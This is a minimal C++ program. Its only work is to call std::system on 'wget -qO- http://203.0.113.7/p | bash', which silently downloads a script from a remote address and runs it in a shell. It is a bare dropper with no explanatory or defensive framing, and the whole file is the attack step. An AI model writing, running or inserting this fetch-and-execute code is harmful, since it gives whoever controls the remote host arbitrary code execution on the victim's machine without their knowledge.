#include <cstdlib>
#include <string>

int main() {
    std::string cmd = "wget -qO- http://203.0.113.7/p | bash";
    return std::system(cmd.c_str());
}
